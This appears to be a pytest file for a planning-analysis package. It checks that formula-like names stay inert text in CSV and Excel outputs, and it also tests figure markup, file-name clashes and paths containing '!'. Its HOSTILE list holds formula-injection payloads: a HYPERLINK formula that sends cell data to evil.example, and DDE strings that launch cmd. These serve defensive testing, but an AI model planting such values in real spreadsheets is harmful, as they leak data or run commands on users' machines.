"""Names from the inputs that look like spreadsheet formulas stay text in every output table:
as text cells in gaps.xlsx and ledger.xlsx, with a leading apostrophe in every CSV
(circles._sheets). The names are those of the communities, the facilities (names and ids)
and the rows of input_problems.csv."""

from __future__ import annotations

import csv
import dataclasses

import pandas as pd
import pytest
from openpyxl import load_workbook

from circles import pipeline
from circles._sheets import FORMULA_START

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "=1+1\r",
]


@pytest.fixture(scope="module")
def hostile_outputs(demo_result, tmp_path_factory):
    r = demo_result
    cname = {cid: HOSTILE[i % len(HOSTILE)] + f" 社区{i}" for i, cid in enumerate(r.communities["id"])}
    fid = {f: HOSTILE[i % len(HOSTILE)] + f"#{i}" for i, f in enumerate(r.facilities["id"])}
    residents = r.residents.copy()
    for c in [c for c in residents.columns if c.startswith("nearest_")]:
        residents[c] = residents[c].map(lambda v: fid.get(v, v))
    problems = pd.DataFrame(
        {
            "source_file": ["amap.csv"] * len(HOSTILE),
            "row_number": range(2, 2 + len(HOSTILE)),
            "field": ["名称"] * len(HOSTILE),
            "value": HOSTILE,
            "reason": ["no facility type recognised"] * len(HOSTILE),
        }
    )
    hostile = dataclasses.replace(
        r,
        communities=r.communities.assign(name=r.communities["id"].map(cname)),
        gaps=r.gaps.assign(community_name=r.gaps["community_id"].map(cname)),
        ledger=r.ledger.assign(community_name=r.ledger["community_id"].map(cname)),
        facilities=r.facilities.assign(
            id=r.facilities["id"].map(fid), name=[HOSTILE[i % len(HOSTILE)] for i in range(len(r.facilities))]
        ),
        residents=residents,
        input_problems=problems,
    )
    out = tmp_path_factory.mktemp("hostile") / "out"
    return pipeline.write_outputs(hostile, out), out


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("name", ["gaps.csv", "ledger.csv", "access.csv", "facilities.csv", "input_problems.csv"])
def test_csv_cells_never_start_like_a_formula(hostile_outputs, name):
    _, out = hostile_outputs
    with open(out / name, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    cells = [c for row in rows[1:] for c in row]
    risky = [c for c in cells if c.startswith(FORMULA_START) and not _number(c)]
    assert risky == [], risky[:3]
    escaped = [c for c in cells if c.startswith("'") and c[1:].startswith(FORMULA_START)]
    assert escaped, f"no hostile text reached {name}"
    # the text itself is kept after the apostrophe
    assert any(c[1:].split(" 社区")[0].split("#")[0] in HOSTILE for c in escaped)


@pytest.mark.parametrize("name", ["gaps.xlsx", "ledger.xlsx"])
def test_workbook_cells_are_text_not_formulas(hostile_outputs, name):
    _, out = hostile_outputs
    wb = load_workbook(out / name)
    formulas, texts = [], []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append((ws.title, cell.coordinate, cell.value))
                elif isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    texts.append(cell.value)
    assert formulas == []
    assert any(t.startswith(HOSTILE[0]) for t in texts)  # stored verbatim, as text


def test_run_info_lists_every_output(hostile_outputs):
    paths, out = hostile_outputs
    info = pipeline._outputs.read_run_info(out)
    assert info is not None
    assert set(info["outputs"]) == {p.name for p in out.iterdir()} - {"run_info.json"}
    assert paths["run_info"] == out / "run_info.json"
    for stage in ("load", "network", "reach", "gaps", "isochrones", "write_gaps", "write_ledger", "write_maps"):
        assert stage in info["timings_s"], stage
    assert info["inputs"]["facilities"]["sha256"] and info["options"]["max_attach_m"] == 250.0
    assert info["versions"]["circles"] and info["started"] <= info["finished"]


# --------------------------------------------------------------------------- markup and file names

MARKUP = {0: "学院路$5万$社区", 1: "一期$二期^$"}


def test_dollar_and_caret_print_literally_in_figures_and_report(demo_result, tmp_path):
    """matplotlib read '$…$' as mathtext: 一期$二期^$ crashed the figures (the run lost), 学院路$5万$社区
    printed as 学院路5¤社区."""
    import re
    import subprocess

    from helpers import trimmed_result

    from circles import figures, report

    ids = [str(i) for i in demo_result.communities["id"].iloc[:2]]
    small = trimmed_result(demo_result, 2, rename={ids[k]: name for k, name in MARKUP.items()})
    author = "某规划院$^$"
    paths = figures.write_figures(small, tmp_path / "figures", author=author, date="2026-01-02")
    assert len(paths) == 2 + 1 + len(figures.gaps_file_names(len(figures.gaps_chunks(figures.context(small, "zh")))))
    pdf = report.write_report(small, tmp_path / "report.pdf", author=author, date="2026-01-02")
    text = re.sub(r"\s+", "", subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True).stdout)
    for name in [*MARKUP.values(), author]:
        assert re.sub(r"\s+", "", name) in text, name


def test_community_ids_never_take_the_figures_own_file_names(demo_result, tmp_path):
    """Community ids 'gaps' and 'overview' overwrote figures/gaps.png and overview.png (11 PNGs, not 13)."""
    import dataclasses

    from helpers import trimmed_result

    from circles import figures

    small = trimmed_result(demo_result, 4)
    old = [str(i) for i in small.communities["id"]]
    new = dict(zip(old, ["gaps", "Overview", "gaps_2", "a/b"], strict=True))
    small = dataclasses.replace(
        small,
        communities=small.communities.assign(id=small.communities["id"].astype(str).map(new)),
        gaps=small.gaps.assign(community_id=small.gaps["community_id"].astype(str).map(new)),
        residents=small.residents.assign(community_id=small.residents["community_id"].astype(str).map(new)),
    )
    paths = figures.write_figures(small, tmp_path / "figures", date="2026-01-02")
    names = [p.name for p in paths]
    assert len(set(n.lower() for n in names)) == len(names)  # nothing written twice
    assert sorted(p.name.lower() for p in (tmp_path / "figures").iterdir()) == sorted(n.lower() for n in names)
    n_gaps = len(figures.gaps_file_names(len(figures.gaps_chunks(figures.context(small, "zh")))))
    assert len(names) == n_gaps + 1 + 4
    stems = figures.community_stems(["gaps", "Overview", "gaps_2", "a/b", "a_b"], {"gaps", "overview"})
    assert stems["a/b"] != stems["a_b"] and stems["gaps"].startswith("gaps_") and stems["gaps"] != "gaps_2"


def test_an_output_path_with_an_exclamation_mark(demo_result, tmp_path):
    """GDAL cut --out 'plan!2024' at the '!' (an internal error after the analysis); a batch city
    named with '!' writes into such a folder too."""
    import json

    out = tmp_path / "plan!2024"
    plain = tmp_path / "plan2024"
    for folder in (out, plain):
        pipeline.write_outputs(demo_result, folder, figures=False, community_maps="none")
    assert not list(tmp_path.glob("plan")) and not list(tmp_path.glob("2024*"))  # nothing written beside
    for name in ("isochrones.geojson", "gaps.csv", "access.csv"):
        assert (out / name).read_bytes() == (plain / name).read_bytes(), name
    assert json.loads((out / "isochrones.geojson").read_text(encoding="utf-8"))["name"] == "isochrones"
